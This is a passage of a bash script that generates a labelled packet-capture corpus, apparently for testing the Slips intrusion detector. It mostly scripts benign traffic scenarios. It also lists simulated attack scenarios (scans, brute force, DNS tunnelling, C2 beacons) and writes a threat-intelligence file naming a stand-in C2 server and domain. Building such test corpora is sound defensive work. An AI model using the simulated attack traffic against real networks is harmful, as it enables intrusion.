  q nsx cli curl -s -m 10 -A "$UA" --cacert "$CA" -o /dev/null -o /dev/null -o /dev/null -o /dev/null \
    $n/world.html $n/img/photo2.jpg $n/img/photo3.jpg $n/css/site.css
  sleep 5
  q nsx cli curl -s -m 10 -A "$UA" --cacert "$CA" -o /dev/null -o /dev/null -o /dev/null -o /dev/null -o /dev/null -o /dev/null \
    $s/index.html $s/img/item0.png $s/img/item1.png $s/img/item2.png $s/img/item3.png $s/cart.html
  q nsx cli curl -s -m 10 -A "$UA" --cacert "$CA" -o /dev/null $c/lib/jquery.min.js
  sleep 7
  q nsx cli curl -s -m 10 -A "$UA" -o /dev/null -o /dev/null http://www.news.example/sport.html http://www.news.example/img/photo4.jpg
  sleep 4
  q nsx cli curl -s -m 10 -A "$UA" --cacert "$CA" -o /dev/null -o /dev/null -o /dev/null \
    $n/tech.html $n/img/photo5.jpg $n/js/app.js
  cap_stop
}
s_benign_dns_ntp() {
  cap_start benign-dns-ntp cli eth0
  local d=(dig +tries=1 +time=2 @10.77.0.2)
  q ns cli "${d[@]}" www.news.example A;  sleep 0.5
  q ns cli "${d[@]}" www.news.example AAAA; sleep 0.5
  q ns cli "${d[@]}" corp.example MX; sleep 0.3
  q ns cli "${d[@]}" mail.corp.example A; sleep 1
  q ns cli "${d[@]}" wwww.news.example A; sleep 1
  q ns cli "${d[@]}" shop.example A; sleep 0.5
  q ns cli "${d[@]}" shpo.example A; sleep 0.5
  q ns cli "${d[@]}" ntp.corp.example A; sleep 0.5
  # NTP query (chronyd in client mode, does not set the clock: -Q)
  q ns cli timeout 30 chronyd -Q -f /dev/null "server 192.0.2.123 iburst maxsamples 4"
  sleep 1
  # mDNS one-shot queries
  q ns cli dig +tries=1 +time=1 -p 5353 @224.0.0.251 _services._dns-sd._udp.local PTR
  q ns cli dig +tries=1 +time=1 -p 5353 @224.0.0.251 _ipp._tcp.local PTR
  # SSDP discovery: the TV and the printer answer
  q ns cli "$PY" "$HERE/ssdp.py" search 10.77.0.70 2
  q ns cli "${d[@]}" static.cdn.example A
  cap_stop
}
s_benign_ssh_key() {
  cap_start benign-ssh-key cli eth0
  local k=(-i "$T/ssh/client_key" -o IdentitiesOnly=yes -o PasswordAuthentication=no)
  q ns cli timeout 30 ssh "${SSHOPTS[@]}" "${k[@]}" victim@10.77.0.20 'uname -a; uptime; df -h /; ls -la'
  sleep 2
  q ns cli timeout 30 scp -q "${SSHOPTS[@]}" "${k[@]}" "$T/upload.bin" victim@10.77.0.20:upload.bin
  sleep 2
  q ns cli timeout 30 ssh "${SSHOPTS[@]}" "${k[@]}" victim@10.77.0.20 'sha256sum upload.bin; rm -f upload.bin; exit'
  cap_stop
}
s_benign_updates() {
  cap_start benign-updates cli eth0
  local m=http://deb.mirror.example/debian UA='Debian APT-HTTP/1.3 (2.6.1)'
  q nsx cli curl -s -m 20 -A "$UA" -o /dev/null -o /dev/null \
    $m/dists/bookworm/InRelease $m/dists/bookworm/main/binary-amd64/Packages.xz
  sleep 3
  q nsx cli curl -s -m 30 -A "$UA" -o /dev/null -o /dev/null -o /dev/null \
    $m/pool/main/f/foo/libfoo1_1.2-3_amd64.deb $m/pool/main/f/foo/foo-utils_1.2-3_amd64.deb \
    $m/pool/main/f/foo/python3-bar_0.9-1_all.deb
  cap_stop
}
s_benign_vpn() {
  cap_start benign-vpn cli eth0
  q ns cli timeout 60 "$PY" "$HERE/vpn.py" client 198.51.100.94 10.77.0.70 40
  cap_stop
}
s_benign_cloud() {
  cap_start benign-cloud cli eth0
  q nsx cli timeout 80 sh -c "for i in \$(seq 1 10); do echo \"SYNC \$i state=idle files=1842\"; sleep 5; done |
    openssl s_client -connect sync.cloud.example:443 -servername sync.cloud.example \
      -CAfile '$T/pki/ca.pem' -verify_return_error -nocommands -no_ign_eof"
  cap_stop
}

SCENARIOS=(nmap-syn-vertical nmap-udp horizontal-scan icmp-sweep ssh-bruteforce
  ftp-bruteforce smtp-bruteforce telnet-scan dga dns-tunnel txt-entropy
  http-beacon https-beacon ti-ioc fake-cert arp-scan dhcp-scan
  benign-browsing benign-dns-ntp benign-ssh-key benign-updates benign-vpn
  benign-cloud)

write_meta() {
  # slips' local threat-intelligence format: IoC, threat level, description.
  mkdir -p "$OUT/ti"
  cat >"$OUT/ti/own_malicious_iocs.csv" <<'EOF'
# The corpus' own indicators (ti-ioc.pcap): IoC, threat level, description.
203.0.113.66,high,corpus C2 server
evil-c2.example,high,corpus C2 domain
EOF
  cp "$HERE/labels.csv" "$OUT/labels.csv"
}

main() {
  ensure_tools
  mkdir -p "$OUT"
  kill_ns_all   # leftovers of an interrupted earlier run
  T=$(mktemp -d /tmp/slc-corpus.XXXXXX)
  make_data
  build_topology
  start_services
  local s
  for s in "${SCENARIOS[@]}"; do
    if [[ -n $ONLY && " $ONLY " != *" $s "* ]]; then continue; fi
    "s_${s//-/_}"
  done
  write_meta
  log "done"
  ls -l "$OUT" >&2
}
main "$@"
